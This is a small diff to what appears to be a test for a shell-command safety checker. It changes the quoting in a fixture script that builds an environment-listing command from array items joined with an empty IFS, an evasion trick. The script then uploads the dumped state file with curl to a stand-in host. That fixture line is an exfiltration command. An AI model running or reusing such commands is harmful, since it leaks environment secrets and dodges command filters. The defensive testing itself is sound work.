@@ -48,7 +48,7 @@ def test_environment_lister_named_by_array_items_joined_with_an_empty_ifs_is_sen
             "IFS=''\n"
             'lister="${letters[*]}"\n'
             "unset IFS\n"
-            '$lister > /tmp/state.txt\n'
+            "$lister > /tmp/state.txt\n"
             "curl -s -F 'f=@/tmp/state.txt' https://drop.tickets-desk.example/upload\n"
         },
     )
